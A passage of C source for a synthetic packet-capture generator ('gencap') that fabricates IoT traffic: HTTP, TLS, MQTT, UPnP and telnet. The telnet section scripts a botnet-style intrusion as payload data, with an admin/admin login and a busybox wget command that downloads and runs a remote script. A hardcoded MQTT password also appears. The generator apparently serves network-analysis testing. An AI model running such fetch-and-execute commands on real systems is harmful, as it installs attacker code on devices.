		if (kind == K_HTTP) {
			bool post = chance(250);
			const char *path = paths[(h >> 46) % (sizeof paths / sizeof paths[0])];
			size_t blen = post ? rrange(40, 600) : 0;
			putf(cs, "%s %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nAccept: */*\r\n", post ? "POST" : "GET",
			     path, name, v->ua);
			if (post)
				putf(cs, "Content-Type: application/json\r\nContent-Length: %zu\r\n", blen);
			putf(cs, "Connection: %s\r\n\r\n", id ? "keep-alive" : "close");
			put_body(cs, blen);
			tcp_send(s, tc, 0, 0);
			size_t rlen = chance(700) ? rrange(60, 1800) : rrange(1800, 9000);
			int status = chance(900) ? 200 : chance(500) ? 304 : 404;
			putf(ss,
			     "HTTP/1.1 %d %s\r\nServer: %s\r\nDate: Fri, 01 Mar 2024 00:00:00 GMT\r\n"
			     "Content-Type: application/json\r\nContent-Length: %zu\r\nConnection: %s\r\n\r\n",
			     status, status == 200 ? "OK" : status == 304 ? "Not Modified" : "Not Found",
			     servers_hdr[(h >> 48) % (sizeof servers_hdr / sizeof servers_hdr[0])], status == 304 ? 0 : rlen,
			     id ? "keep-alive" : "close");
			if (status != 304)
				put_body(ss, rlen);
			tcp_send(s, tc, 1, 0);
			tcp_end(s, tc, 1, id);
		} else if (kind == K_TLS) {
			size_t o = 0;
			if (!reuse) {
				put_client_hello(cs, name);
				tcp_send(s, tc, 0, 0);
				put_server_hello(ss);
				put_appdata(ss, rrange(900, 2800)); /* encrypted extensions + certificate */
				put_appdata(ss, rrange(60, 300));    /* finished */
				tcp_send(s, tc, 1, 0);
				o = cs->len;
				put8(cs, 0x14), put16(cs, 0x0303), put16(cs, 1), put8(cs, 1);
				put_appdata(cs, 53);
			}
			put_appdata(cs, rrange(80, 900));
			tcp_send_noack(s, tc, 0, o);
			unsigned nresp = rrange(1, 2);
			for (unsigned i = 0; i < nresp; i++) {
				o = ss->len;
				put_appdata(ss, chance(600) ? rrange(40, 1200) : rrange(1200, 6000));
				tcp_send(s, tc, 1, o);
			}
			if (!id) {
				o = cs->len;
				put_appdata(cs, 19); /* close_notify */
				tcp_send_noack(s, tc, 0, o);
			}
			tcp_end(s, tc, 0, id);
		} else {
			if (!reuse) {
				char cid[48];
				snprintf(cid, sizeof cid, "%s", d->hostname);
				size_t cl = strlen(cid);
				bool auth = (h >> 47) & 1;
				size_t rem = 10 + 2 + cl + (auth ? 2 + 6 + 2 + 8 : 0);
				put8(cs, 0x10), put8(cs, (uint8_t)rem);
				put16(cs, 4), put(cs, "MQTT", 4), put8(cs, 4), put8(cs, auth ? 0xc2 : 0x02), put16(cs, 60);
				put16(cs, (uint16_t)cl), put(cs, cid, cl);
				if (auth)
					put16(cs, 6), put(cs, "device", 6), put16(cs, 8), put(cs, "s3cr3t!!", 8);
				tcp_send_noack(s, tc, 0, 0);
				put8(ss, 0x20), put8(ss, 2), put16(ss, 0);
				tcp_send_noack(s, tc, 1, 0);
			}
			unsigned np = rrange(1, 4);
			for (unsigned i = 0; i < np; i++) {
				size_t o = cs->len;
				size_t pl = rrange(8, 100); /* remaining length stays one byte */
				put8(cs, 0x30), put8(cs, (uint8_t)(2 + 14 + pl)), put16(cs, 14), put(cs, "home/telemetry", 14);
				put_body(cs, pl);
				tcp_send(s, tc, 0, o);
			}
			if (!id) {
				size_t o = cs->len;
				put8(cs, 0xe0), put8(cs, 0);
				tcp_send_noack(s, tc, 0, o);
			}
			tcp_end(s, tc, 0, id);
		}
		break;
	}
	case K_UPNP: {
		struct device *srv = &devs[(di + 1 + (uint32_t)((h >> 43) % (opt_devices > 1 ? opt_devices - 1 : 1))) %
					  opt_devices];
		const struct vendor *sv_v = &vendors[srv->vendor];
		struct ep c = dev_ep(d, sport), sv = dev_ep(srv, 49152);
		conv_init(&s->conv[0], 6, &c, &sv, 64, 64);
		tcp_begin(s, 0, id);
		struct buf *cs = &s->conv[0].st[0], *ss = &s->conv[0].st[1];
		putf(cs, "GET /description.xml HTTP/1.1\r\nHost: 10.0.%u.%u:49152\r\nUser-Agent: %s\r\nConnection: %s\r\n\r\n",
		     (srv->ip >> 8) & 0xff, srv->ip & 0xff, v->ua, id ? "keep-alive" : "close");
		tcp_send(s, 0, 0, 0);
		struct buf body = {0};
		putf(&body,
		     "<?xml version=\"1.0\"?>\r\n<root xmlns=\"urn:schemas-upnp-org:device-1-0\">\r\n"
		     "<specVersion><major>1</major><minor>0</minor></specVersion>\r\n<device>\r\n"
		     "<deviceType>urn:schemas-upnp-org:device:Basic:1</deviceType>\r\n"
		     "<friendlyName>%s</friendlyName>\r\n<manufacturer>%s</manufacturer>\r\n"
		     "<modelName>%s</modelName>\r\n<serialNumber>%02X%02X%02X%02X%02X%02X</serialNumber>\r\n"
		     "<UDN>uuid:2f402f80-da50-11e1-9b23-%02x%02x%02x%02x%02x%02x</UDN>\r\n</device>\r\n</root>\r\n",
		     srv->hostname, sv_v->name, sv_v->model, srv->mac[0], srv->mac[1], srv->mac[2], srv->mac[3],
		     srv->mac[4], srv->mac[5], srv->mac[0], srv->mac[1], srv->mac[2], srv->mac[3], srv->mac[4],
		     srv->mac[5]);
		putf(ss,
		     "HTTP/1.1 200 OK\r\nServer: Linux/4.9 UPnP/1.0 %s/%s\r\nContent-Type: text/xml; charset=\"utf-8\"\r\n"
		     "Content-Length: %zu\r\nConnection: %s\r\n\r\n",
		     sv_v->name, sv_v->model, body.len, id ? "keep-alive" : "close");
		put(ss, body.p, body.len);
		free(body.p);
		tcp_send(s, 0, 1, 0);
		tcp_end(s, 0, 1, id);
		break;
	}
	case K_TELNET: {
		struct ep c = remote_ep(remote_ip(0x7e17e7ULL + (h >> 20) % 50), (uint16_t)(1024 + (h >> 4) % 60000));
		struct ep sv = dev_ep(d, (h >> 44) % 4 ? 23 : 2323);
		conv_init(&s->conv[0], 6, &c, &sv, rttl, 64);
		tcp_begin(s, 0, id);
		struct buf *cs = &s->conv[0].st[0], *ss = &s->conv[0].st[1];
		static const char *const dialog[][2] = {
			{NULL, "\xff\xfd\x18\xff\xfd\x20\xff\xfd\x23\xff\xfd\x27"},
			{"\xff\xfc\x18\xff\xfc\x20\xff\xfc\x23\xff\xfc\x27", "\r\nlogin: "},
			{"admin\r\n", "Password: "},
			{"admin\r\n", "\r\n\r\nBusyBox v1.19.4 (2016-03-14 10:21:32 CST) built-in shell (ash)\r\n# "},
			{"enable\r\n", "\r\n# "},
			{"cat /proc/cpuinfo\r\n",
			 "processor\t: 0\r\nmodel name\t: ARMv7 Processor rev 5 (v7l)\r\nBogoMIPS\t: 38.40\r\n# "},
			{"/bin/busybox wget http://185.10.68.2/bins.sh -O /tmp/b; sh /tmp/b\r\n", "Connecting to 185.10.68.2\r\n# "},
			{"exit\r\n", NULL},
		};
		/* a kept-open session (-f) logs in once, later visits run one command */
		size_t first = reuse ? 5 : 0, last = id ? 6 : sizeof dialog / sizeof dialog[0];
		for (size_t i = first; i < last; i++) {
			if (dialog[i][0]) {
				size_t o = cs->len;
				put(cs, dialog[i][0], strlen(dialog[i][0]));
				tcp_send_noack(s, 0, 0, o);
			}
			if (dialog[i][1]) {
				size_t o = ss->len;
				put(ss, dialog[i][1], strlen(dialog[i][1]));
				tcp_send_noack(s, 0, 1, o);
			}
		}
		add_act(s, 0, id ? 0 : 1, F_ACK, 0, 0); /* ACK of the last data */
		tcp_end(s, 0, 1, id);
		break;
	}
	}
}

/* ------------------------------------------------------------ output */

static FILE *out;
static uint64_t now_ns;
static uint64_t n_packets, n_bytes;

static void le32(uint8_t *p, uint32_t v)
{
	p[0] = (uint8_t)v, p[1] = (uint8_t)(v >> 8), p[2] = (uint8_t)(v >> 16), p[3] = (uint8_t)(v >> 24);
}

static void wr(const void *p, size_t n)
{
	if (fwrite(p, 1, n, out) != n) {
		fprintf(stderr, "gencap: write: %s\n", strerror(errno));
		exit(1);
	}
}

static uint16_t csum_fold(uint32_t s)
{
	while (s >> 16)
		s = (s & 0xffff) + (s >> 16);
	return (uint16_t)~s;
}

static uint32_t csum_add(uint32_t s, const uint8_t *p, size_t n)
{
	for (; n > 1; n -= 2, p += 2)
		s += (uint32_t)(p[0] << 8 | p[1]);
	if (n)
		s += (uint32_t)(p[0] << 8);
	return s;
}

/* Distinct-key counter: open addressing over (k1, k2) pairs, k2 != 0. */
struct pairset {
	uint64_t *v; /* pairs (k1, k2); k2 == 0 marks empty */
	size_t cap, n;
};
static struct pairset flowset, remoteset;

static void pairset_insert_raw(struct pairset *ps, uint64_t k1, uint64_t k2)
{
	size_t m = ps->cap - 1, i = (size_t)mix64(k1 ^ mix64(k2)) & m;
	while (ps->v[2 * i + 1]) {
		if (ps->v[2 * i] == k1 && ps->v[2 * i + 1] == k2)
			return;
		i = (i + 1) & m;
	}
	ps->v[2 * i] = k1;
	ps->v[2 * i + 1] = k2;
	ps->n++;
}

static void pairset_add(struct pairset *ps, uint64_t k1, uint64_t k2)
{
	if ((ps->n + 1) * 2 > ps->cap) {
		uint64_t *old = ps->v;
		size_t oc = ps->cap;
		ps->cap = oc ? oc * 2 : 1u << 16;
		if (!(ps->v = calloc(ps->cap * 2, sizeof *ps->v))) {
			fprintf(stderr, "gencap: out of memory\n");
			exit(1);
		}
		ps->n = 0;
		for (size_t i = 0; i < oc; i++)
			if (old[2 * i + 1])
				pairset_insert_raw(ps, old[2 * i], old[2 * i + 1]);
		free(old);
	}
	pairset_insert_raw(ps, k1, k2);
}

/* Counts the bidirectional 5-tuple and any remote (non-10/8, unicast) host. */
static void count_packet(uint8_t proto, uint32_t a, uint16_t pa, uint32_t b, uint16_t pb)
{
	uint32_t ends[2] = {a, b};
	for (int i = 0; i < 2; i++)
		if ((ends[i] >> 24) != 10 && ends[i] != 0 && ends[i] != 0xffffffff && (ends[i] >> 28) != 0xe)
			pairset_add(&remoteset, ends[i], 1);
	if (a > b || (a == b && pa > pb)) {
		uint32_t t = a;
		uint16_t tp = pa;
		a = b, pa = pb, b = t, pb = tp;
	}
	pairset_add(&flowset, (uint64_t)a << 32 | b, (uint64_t)proto << 32 | (uint64_t)pa << 16 | pb);
}

static void emit(struct sess *s)
{
	const struct act *a = &s->act[s->pos++];
	struct conv *c = &s->conv[a->conv];
	const struct ep *src = &c->ep[a->dir], *dst = &c->ep[!a->dir];
	uint8_t f[1600];
	size_t l4h = c->proto == 17 ? 8 : (a->flags & F_SYN ? 32 : 20);
	size_t iplen = 20 + l4h + a->len;
	size_t flen = 14 + iplen;
	if (flen > sizeof f) {
		fprintf(stderr, "gencap: oversized frame\n");
		exit(1);
	}
	memcpy(f, dst->mac, 6);
	memcpy(f + 6, src->mac, 6);
	f[12] = 0x08, f[13] = 0x00;
	uint8_t *ip = f + 14;
	ip[0] = 0x45, ip[1] = 0;
	ip[2] = (uint8_t)(iplen >> 8), ip[3] = (uint8_t)iplen;
	uint16_t id = c->ipid[a->dir]++;
	ip[4] = (uint8_t)(id >> 8), ip[5] = (uint8_t)id;
	ip[6] = c->proto == 6 ? 0x40 : 0, ip[7] = 0;
	ip[8] = c->ttl[a->dir], ip[9] = c->proto;
	ip[10] = ip[11] = 0;
	for (int i = 0; i < 4; i++) {
		ip[12 + i] = (uint8_t)(src->ip >> (24 - 8 * i));
		ip[16 + i] = (uint8_t)(dst->ip >> (24 - 8 * i));
	}
	uint16_t ck = csum_fold(csum_add(0, ip, 20));
	ip[10] = (uint8_t)(ck >> 8), ip[11] = (uint8_t)ck;
	uint8_t *l4 = ip + 20;
	l4[0] = (uint8_t)(src->port >> 8), l4[1] = (uint8_t)src->port;
	l4[2] = (uint8_t)(dst->port >> 8), l4[3] = (uint8_t)dst->port;
	uint8_t *pl = l4 + l4h;
	if (a->len)
		memcpy(pl, c->st[a->dir].p + a->off, a->len);
	size_t l4len = l4h + a->len;
	if (c->proto == 17) {
		l4[4] = (uint8_t)(l4len >> 8), l4[5] = (uint8_t)l4len;
		l4[6] = l4[7] = 0;
	} else {
		unsigned d = a->dir;
		uint32_t seq = c->isn[d] + (a->flags & F_SYN ? 0 : 1 + c->sent[d] + (c->fin[d] ? 1 : 0));
		uint32_t ack = (a->flags & F_ACK) ? c->isn[!d] + 1 + c->sent[!d] + (c->fin[!d] ? 1 : 0) : 0;
		for (int i = 0; i < 4; i++) {
			l4[4 + i] = (uint8_t)(seq >> (24 - 8 * i));
			l4[8 + i] = (uint8_t)(ack >> (24 - 8 * i));
		}
		l4[12] = (uint8_t)((l4h / 4) << 4);
		l4[13] = a->flags;
		l4[14] = (uint8_t)(c->win[d] >> 8), l4[15] = (uint8_t)c->win[d];
		l4[16] = l4[17] = l4[18] = l4[19] = 0;
		if (l4h == 32) {
			static const uint8_t opts[12] = {2, 4, 0x05, 0xb4, 1, 3, 3, 7, 1, 1, 4, 2};
			memcpy(l4 + 20, opts, 12);
		}
		c->sent[d] += a->len;
		if (a->flags & F_FIN)
			c->fin[d] = true;
	}
	/* L4 checksum over the pseudo-header */
	uint8_t ph[12];
	memcpy(ph, ip + 12, 8);
	ph[8] = 0, ph[9] = c->proto, ph[10] = (uint8_t)(l4len >> 8), ph[11] = (uint8_t)l4len;
	uint16_t lck = csum_fold(csum_add(csum_add(0, ph, 12), l4, l4len));
	if (c->proto == 17 && lck == 0)
		lck = 0xffff;
	uint8_t *ckp = c->proto == 17 ? l4 + 6 : l4 + 16;
	ckp[0] = (uint8_t)(lck >> 8), ckp[1] = (uint8_t)lck;

	count_packet(c->proto, src->ip, src->port, dst->ip, dst->port);

	uint64_t mean = 1000000000ULL / opt_pps;
	now_ns += rnd() % (2 * mean + 1);
	uint64_t t_us = 1709251200ULL * 1000000ULL + now_ns / 1000;
	uint8_t rh[16];
	le32(rh, (uint32_t)(t_us / 1000000));
	le32(rh + 4, (uint32_t)(t_us % 1000000));
	le32(rh + 8, (uint32_t)flen);
	le32(rh + 12, (uint32_t)flen);
	wr(rh, 16);
	wr(f, flen);
	n_packets++;
	n_bytes += flen;
}

/* --------------------------------------------------------------- main */

static uint64_t parse_num(const char *s, const char *what)
{
	char *end;
	errno = 0;
	unsigned long long v = strtoull(s, &end, 10);
	if (errno || end == s || *end) {
		fprintf(stderr, "gencap: bad %s: %s\n", what, s);
		exit(2);
	}
	return v;
}

static void usage(void)
{
	fprintf(stderr, "usage: gencap [-n packets] [-d devices] [-R remotes] [-f flow_ids] [-r pps] [-s seed] [-c concurrent] -o FILE|-\n");
	exit(2);
}

int main(int argc, char **argv)
{
	const char *path = NULL;
	int opt;
	while ((opt = getopt(argc, argv, "n:d:f:r:R:s:c:o:h")) != -1) {
		switch (opt) {
		case 'n': opt_packets = parse_num(optarg, "packet count"); break;
		case 'd': opt_devices = (uint32_t)parse_num(optarg, "device count"); break;
		case 'f': opt_flow_ids = parse_num(optarg, "flow ids"); break;
		case 'R': opt_remotes = (uint32_t)parse_num(optarg, "remote count"); break;
		case 'r': opt_pps = (uint32_t)parse_num(optarg, "rate"); break;
		case 's': opt_seed = parse_num(optarg, "seed"); break;
		case 'c': opt_conc = (uint32_t)parse_num(optarg, "concurrency"); break;
		case 'o': path = optarg; break;
		default: usage();
		}
	}
	if (!path || optind != argc)
		usage();
	if (opt_devices < 1 || opt_devices > 63000 || opt_pps < 1 || opt_conc < 1 || opt_remotes < 1) {
		fprintf(stderr, "gencap: need 1 <= devices <= 63000, rate, concurrency and remotes >= 1\n");
		return 2;
	}
	if (strcmp(path, "-") == 0) {
		out = stdout;
	} else if (!(out = fopen(path, "wb"))) {
		fprintf(stderr, "gencap: %s: %s\n", path, strerror(errno));
		return 1;
	}
	static char obuf[1 << 20];
	setvbuf(out, obuf, _IOFBF, sizeof obuf);
	uint64_t x = opt_seed;
	for (int i = 0; i < 4; i++)
		rng_s[i] = x = mix64(x);
	init_devices();
	if (opt_flow_ids) {
		if (opt_flow_ids <= opt_conc) {
			fprintf(stderr, "gencap: -f must exceed the concurrency (-c %u)\n", opt_conc);
			return 2;
		}
		if (!(ids = calloc(opt_flow_ids, sizeof *ids))) {
			fprintf(stderr, "gencap: out of memory\n");
			return 1;
		}
	}

	uint8_t gh[24];
	le32(gh, 0xa1b2c3d4);
	gh[4] = 2, gh[5] = 0, gh[6] = 4, gh[7] = 0;
	le32(gh + 8, 0);
	le32(gh + 12, 0);
	le32(gh + 16, 65535);
	le32(gh + 20, 1);
	wr(gh, 24);

	struct sess *ss = calloc(opt_conc, sizeof *ss);
	if (!ss) {
		fprintf(stderr, "gencap: out of memory\n");
		return 1;
	}
	for (uint32_t i = 0; i < opt_conc; i++)
		new_session(&ss[i]);
	while (n_packets < opt_packets) {
		struct sess *s = &ss[rn(opt_conc)];
		emit(s);
		if (s->pos == s->nact) {
			if (s->id)
				s->id->busy = false;
			new_session(s);
		}
	}
	if (fflush(out) != 0 || (out != stdout && fclose(out) != 0)) {
		fprintf(stderr, "gencap: write: %s\n", strerror(errno));
		return 1;
	}
	fprintf(stderr, "gencap: packets=%llu bytes=%llu flows=%llu remotes=%zu sessions=%llu devices=%u seconds=%.3f\n",
		(unsigned long long)n_packets, (unsigned long long)n_bytes, (unsigned long long)flowset.n, remoteset.n,
		(unsigned long long)n_sessions, opt_devices, (double)now_ns / 1e9);
	for (uint32_t i = 0; i < opt_conc; i++)
		for (int c = 0; c < 2; c++)
			for (int d = 0; d < 2; d++)
				free(ss[i].conv[c].st[d].p);
	free(ss);
	free(devs);
	free(flowset.v);
	free(remoteset.v);
	free(ids);
	return 0;
}
